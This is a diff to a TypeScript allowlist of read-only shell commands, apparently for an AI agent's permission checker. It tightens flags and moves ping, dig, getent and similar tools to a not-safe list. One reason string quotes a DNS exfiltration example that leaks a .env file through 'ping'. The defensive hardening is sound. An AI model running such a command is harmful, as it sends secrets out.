@@ -17,7 +17,10 @@
  *   and `check` must pass.
  */
 import { splitLong } from './getopt.js';
+import { isGitConfigRead, parseGitGlobals, SAFE_GIT_COMMANDS } from './safe-git-commands.js';
 import { sedIsReadOnly } from './sed-command.js';
+
+export { isGitConfigRead, parseGitGlobals };
 
 /** One argument as the program receives it; `literal` is false when it holds an expansion or glob. */
 export interface CommandArg {
@@ -70,7 +73,7 @@ export const SAFE_READ_ONLY_COMMANDS: readonly SafeCommand[] = [
   { command: 'od', example: 'od -c a.bin' },
   { command: 'hexdump', example: 'hexdump -C a.bin' },
   { command: 'xxd', example: 'xxd a.bin (not a second file, which it writes)', check: (a) => positionals(a, ['-c', '-g', '-l', '-s', '-o', '-n']).length <= 1 },
-  { command: 'strings', example: 'strings a.out' },
+  { command: 'strings', example: 'strings a.out (not --plugin, which loads a library)', deniedFlags: ['--plugin'] },
   { command: 'grep', example: 'grep -rn TODO src' },
   { command: 'egrep', example: "egrep 'a|b' f" },
   { command: 'fgrep', example: 'fgrep -x word f' },
@@ -99,11 +102,11 @@ export const SAFE_READ_ONLY_COMMANDS: readonly SafeCommand[] = [
   { command: 'zcat', example: 'zcat log.gz' },
   { command: 'bzcat', example: 'bzcat a.bz2' },
   { command: 'xzcat', example: 'xzcat a.xz' },
-  { command: 'zstdcat', example: 'zstdcat a.zst' },
+  { command: 'zstdcat', example: 'zstdcat a.zst (not -o FILE, which writes it)', deniedFlags: ['-o', '--output-dir-flat', '--output-dir-mirror', '--rm'] },
   { command: 'zgrep', example: 'zgrep error log.gz' },
   { command: 'tar', example: 'tar -tzf a.tgz, tar tvf a.tar (listing only; not -x/-c or options that run a program)', check: tarLists },
   { command: 'unzip', example: 'unzip -l a.zip, unzip -Z1 a.zip (listing only)', check: (a) => /^-[a-zA-Z]*[lvZ]/.test(a[0] ?? '') && !a.includes('-d') },
-  { command: 'base64', example: 'base64 -d token.txt' },
+  { command: 'base64', example: 'base64 -d token.txt (not -o FILE, which writes it on macOS)', deniedFlags: ['-o', '--output'], shortValueFlags: 'bwi' },
   { command: 'base32', example: 'base32 f' },
   { command: 'expand', example: 'expand -t 4 f' },
   { command: 'unexpand', example: 'unexpand -a f' },
@@ -192,7 +195,6 @@ export const SAFE_READ_ONLY_COMMANDS: readonly SafeCommand[] = [
   { command: 'findmnt', example: 'findmnt /' },
   { command: 'mountpoint', example: 'mountpoint /proc' },
   { command: 'getconf', example: 'getconf PAGESIZE' },
-  { command: 'getent', example: 'getent passwd root' },
   { command: 'lsb_release', example: 'lsb_release -a' },
   { command: 'tty', example: 'tty' },
   { command: 'stty', example: 'stty -a, stty size (with settings it changes the terminal)', check: (a) => a.every((x) => ['-a', '--all', '-g', '--save', 'size', 'speed'].includes(x)) },
@@ -222,16 +224,12 @@ export const SAFE_READ_ONLY_COMMANDS: readonly SafeCommand[] = [
   // manuals and object-file readers (less is not here: it keeps a history file and runs $LESSOPEN)
   { command: 'man', example: 'man ls (not -P/-H, which run a program)', deniedFlags: ['-P', '--pager', '-H', '--html', '-B', '--browser'] },
   { command: 'info', example: 'info ls (not -o FILE or --dribble FILE)', deniedFlags: ['-o', '--output', '--dribble'] },
-  { command: 'nm', example: 'nm -D lib.so' },
-  { command: 'readelf', example: 'readelf -h a.out' },
-  { command: 'objdump', example: 'objdump -d a.out' },
+  { command: 'nm', example: 'nm -D lib.so (not --plugin, which loads a library)', deniedFlags: ['--plugin'] },
+  { command: 'readelf', example: 'readelf -h a.out (not --plugin, which loads a library)', deniedFlags: ['--plugin'] },
+  { command: 'objdump', example: 'objdump -d a.out (not --plugin, which loads a library)', deniedFlags: ['--plugin'] },
   { command: 'yes', example: 'yes | head -3' },
   { command: 'pdfinfo', example: 'pdfinfo a.pdf' },
   { command: 'bc', example: "bc <<< '1+2' (GNU bc has no shell escape)" },
-  { command: 'dig', example: 'dig example.com' },
-  { command: 'host', example: 'host example.com' },
-  { command: 'nslookup', example: 'nslookup example.com' },
-  { command: 'ping', example: 'ping -c 1 localhost' },
   { command: 'openssl version', example: 'openssl version -a' },
   { command: 'psql', example: 'psql --version', check: VERSION_ONLY },
   { command: 'mysql', example: 'mysql --version', check: VERSION_ONLY },
@@ -240,37 +238,8 @@ export const SAFE_READ_ONLY_COMMANDS: readonly SafeCommand[] = [
   { command: 'ssh', example: 'ssh -V', check: VERSION_ONLY },
   { command: 'npx', example: 'npx --version', check: VERSION_ONLY },
   { command: 'ss', example: 'ss -tlnp (not -K, which closes sockets)', deniedFlags: ['-K', '--kill'], shortValueFlags: 'fAF' },
-  // git: read-only subcommands, and the listing forms of the ones that also change things
-  { command: 'git', example: 'git --version', check: VERSION_ONLY },
-  { command: 'git status', example: 'git status --short' },
-  { command: 'git log', example: 'git log --oneline -5 (not --output=file)', deniedFlags: ['--output'] },
-  { command: 'git show', example: 'git show HEAD:src/a.ts', deniedFlags: ['--output'] },
-  { command: 'git diff', example: 'git diff HEAD~1', deniedFlags: ['--output'] },
-  { command: 'git whatchanged', example: 'git whatchanged -5', deniedFlags: ['--output'] },
-  { command: 'git branch', example: 'git branch -a, git branch --list "feat*" (not -D, -m, -u or a new name)', check: gitBranchLists },
-  { command: 'git tag', example: 'git tag -l "v1*" (not -d or a new tag)', check: gitTagLists },
-  { command: 'git remote', example: 'git remote -v, git remote get-url origin, git remote show -n origin (not add/set-url; show without -n uses the network)', check: gitRemoteLists },
-  { command: 'git config', example: 'git config --get user.name, git config --list (not a set)', check: isGitConfigRead },
-  { command: 'git stash', example: 'git stash list, git stash show -p (bare `git stash` stashes)', check: (a) => a[0] === 'list' || a[0] === 'show' },
-  { command: 'git reflog', example: 'git reflog -10 (not expire/delete)', check: (a) => a[0] !== 'expire' && a[0] !== 'delete' },
-  { command: 'git worktree', example: 'git worktree list', check: (a) => a[0] === 'list' },
-  { command: 'git submodule', example: 'git submodule status', check: (a) => a[0] === 'status' },
-  { command: 'git ls-files', example: 'git ls-files src' },
-  { command: 'git ls-tree', example: 'git ls-tree HEAD' },
-  { command: 'git rev-parse', example: 'git rev-parse HEAD' },
-  { command: 'git rev-list', example: 'git rev-list --count HEAD (not --output=file)', deniedFlags: ['--output'] },
-  { command: 'git blame', example: 'git blame -L 10,20 a.ts' },
-  { command: 'git grep', example: 'git grep -n TODO (not -O, which opens a program)', deniedFlags: ['-O', '--open-files-in-pager'], shortValueFlags: 'eABCm' },
-  { command: 'git shortlog', example: 'git shortlog -sn (not --output=file)', deniedFlags: ['--output'] },
-  { command: 'git describe', example: 'git describe --tags' },
-  { command: 'git cat-file', example: 'git cat-file -p HEAD' },
-  { command: 'git merge-base', example: 'git merge-base main HEAD' },
-  { command: 'git name-rev', example: 'git name-rev HEAD' },
-  { command: 'git show-ref', example: 'git show-ref --tags' },
-  { command: 'git for-each-ref', example: 'git for-each-ref refs/heads' },
-  { command: 'git count-objects', example: 'git count-objects -v' },
-  { command: 'git check-ignore', example: 'git check-ignore -v dist' },
-  { command: 'git version', example: 'git version' },
+  // git: read-only subcommands, and the listing forms of the ones that also change things (safe-git-commands.ts)
+  ...SAFE_GIT_COMMANDS,
   // toolchains: versions and queries
   { command: 'go version', example: 'go version' },
   { command: 'go help', example: 'go help build' },
@@ -324,6 +293,7 @@ export const NOT_SAFE: readonly { command: string; reason: string }[] = [
   { command: 'git ls-remote, git fetch, git remote show (without -n)', reason: 'use the network' },
   { command: 'npm view, npm outdated', reason: 'use the network' },
   { command: 'less, more', reason: 'pagers: interactive, and can run commands' },
+  { command: 'ping, dig, host, nslookup, getent, traceroute, whois', reason: 'reach the network: a name looked up carries what a `$( )` put in it out through DNS (`ping $(cat .env).example.com`)' },
   { command: 'awk', reason: 'can run commands (system()) and write files (print > f)' },
   { command: 'unset, export', reason: 'change the environment of later commands in the persistent shell (unset was safe in the original)' },
 ];
@@ -373,6 +343,8 @@ function globCannotBeOption(value: string): boolean {
 }
 
 function findEntry(commandName: string, args: readonly CommandArg[]): { entry: SafeCommand; rest: readonly CommandArg[] } | undefined {
+  // `'git status'` is one word: bash runs a program of that name, not git; a control character is part of the name
+  if (/[\s\x00-\x1f\x7f]/.test(commandName)) return undefined;
   const name = /^pip[\d.]*$/.test(commandName) ? 'pip' : commandName; // pip3, pip3.12
   if (name === 'git') {
     const git = parseGitGlobals(args);
@@ -391,100 +363,6 @@ function findEntry(commandName: string, args: readonly CommandArg[]): { entry: S
 function withEntry(key: string, rest: readonly CommandArg[]) {
   const entry = entries.get(key);
   return entry ? { entry, rest } : undefined;
-}
-
-// ---- git
-
-const GIT_VALUE_GLOBALS = ['-C', '-c', '--git-dir', '--work-tree', '--namespace', '--super-prefix', '--config-env'];
-const GIT_READ_ONLY_GLOBALS = new Set([
-  '-C', '--git-dir', '--work-tree', '--namespace', '-p', '--paginate', '-P', '--no-pager', '--no-replace-objects',
-  '--bare', '--literal-pathspecs', '--glob-pathspecs', '--noglob-pathspecs', '--icase-pathspecs',
-  '--no-optional-locks', '--no-lazy-fetch', '--no-advice', '--version', '-v',
-]);
-
-/**
- * git's options before the subcommand (`git -C sub --no-pager log`): where the subcommand is, the
- * `-C` directories, and whether they are all harmless (`-c core.pager=…` and `--exec-path=` can run
- * any program).
- */
-export function parseGitGlobals(args: readonly CommandArg[]): {
-  subcommand?: string;
-  subcommandIndex: number;
-  directories: CommandArg[];
-  readOnly: boolean;
-} {
-  const directories: CommandArg[] = [];
-  let readOnly = true;
-  let i = 0;
-  for (; i < args.length; i++) {
-    const arg = args[i]!;
-    if (!arg.value.startsWith('-') || !arg.literal) break;
-    const [flag, attached] = splitLong(arg.value);
-    if (!GIT_READ_ONLY_GLOBALS.has(flag)) readOnly = false;
-    if (GIT_VALUE_GLOBALS.includes(flag) && attached === undefined) {
-      const value = args[++i];
-      if (flag === '-C' && value) directories.push(value);
-    } else if (flag === '-C' && attached !== undefined) directories.push({ value: attached, literal: arg.literal });
-  }
-  const sub = args[i];
-  if (sub && !sub.literal) readOnly = false;
-  return { subcommand: sub?.value, subcommandIndex: i, directories, readOnly };
-}
-
-// listing flags; --color, --column and --abbrev take their optional value only attached (`--color=always`)
-const BRANCH_LIST_FLAGS = /^-[arvli]+$|^--(all|remotes|verbose|list|show-current|column|no-column|color|no-color|ignore-case|omit-empty|abbrev|no-abbrev)$/;
-const TAG_LIST_FLAGS = /^-[li]+$|^-n\d*$|^--(list|column|no-column|color|no-color|ignore-case|omit-empty)$/;
-// filters that take the next word as their value (git's PARSE_OPT_LASTARG_DEFAULT or a required value)
-const REF_FILTERS = ['--merged', '--no-merged', '--contains', '--no-contains', '--points-at', '--sort', '--format'];
-
-/** `git branch` and `git tag` list when every flag is a listing flag, and take patterns only with `--list`. */
-function listsRefs(args: readonly string[], listFlags: RegExp): boolean {
-  let list = false;
-  let patterns = 0;
-  for (let i = 0; i < args.length; i++) {
-    const [flag, attached] = splitLong(args[i]!);
-    if (flag === '--') {
-      patterns += args.length - i - 1;
-      break;
-    }
-    if (REF_FILTERS.includes(flag)) {
-      const next = args[i + 1];
-      if (attached === undefined && next !== undefined && !next.startsWith('-')) i++;
-    } else if (listFlags.test(flag)) {
-      if (/^-[a-z]*l|^--list$/.test(flag)) list = true;
-    } else if (flag.startsWith('-')) return false;
-    else patterns++;
-  }
-  return patterns === 0 || list;
-}
-
-function gitBranchLists(args: readonly string[]): boolean {
-  return listsRefs(args, BRANCH_LIST_FLAGS);
-}
-
-function gitTagLists(args: readonly string[]): boolean {
-  return listsRefs(args, TAG_LIST_FLAGS);
-}
-
-function gitRemoteLists(args: readonly string[]): boolean {
-  if (args.every((a) => a === '-v' || a === '--verbose')) return true;
-  if (args[0] === 'get-url') return true;
-  return args[0] === 'show' && args.includes('-n');
-}
-
-const CONFIG_READS = ['--get', '--get-all', '--get-regexp', '--get-urlmatch', '--get-color', '--get-colorbool', '--list', '-l'];
-const CONFIG_LOOKUP_FLAGS = ['--global', '--system', '--local', '--worktree', '--show-origin', '--show-scope', '--includes', '--no-includes', '-z', '--null', '--bool', '--int', '--path', '--bool-or-int', '--type', '--name-only'];
-const CONFIG_WRITES = ['--add', '--unset', '--unset-all', '--replace-all', '--rename-section', '--remove-section', '-e', '--edit'];
-
-/** Whether `git config …` (its arguments after `config`) only reads: `--get`, `--list`, `get`, `list`. */
-export function isGitConfigRead(args: readonly string[]): boolean {
-  const flags = args.map((a) => splitLong(a)[0]);
-  if (flags.some((f) => CONFIG_WRITES.includes(f))) return false;
-  if (flags.some((f) => CONFIG_READS.includes(f))) return true;
-  const positionals = args.filter((a) => !a.startsWith('-'));
-  if (positionals[0] === 'get' || positionals[0] === 'list') return true; // git 2.46+: git config get/list
-  // `git config user.name`: one name and no value reads it
-  return positionals.length === 1 && flags.every((f) => CONFIG_LOOKUP_FLAGS.includes(f) || f === positionals[0]);
 }
 
 // ---- ip, systemctl
@@ -529,7 +407,7 @@ function declarePrints(args: readonly string[]): boolean {
   return names.length === 0 || options.some((o) => /[pfF]/.test(o));
 }
 
-const TAR_CODE_OPTIONS = /^(-[A-Za-z]*[IF]|--(use-compress-program|to-command|info-script|new-volume-script|rsh-command|checkpoint-action|index-file|listed-incremental|file=-?$))/;
+const TAR_CODE_OPTIONS = /^(-[A-Za-z]*[IF]|--(use-compress-program|to-command|info-script|new-volume-script|rsh-command|checkpoint-action|index-file|volno-file|listed-incremental|file=-?$))/;
 
 /** `tar t…`: lists an archive; any mode that writes, or an option that runs a program, asks. */
 function tarLists(args: readonly string[]): boolean {
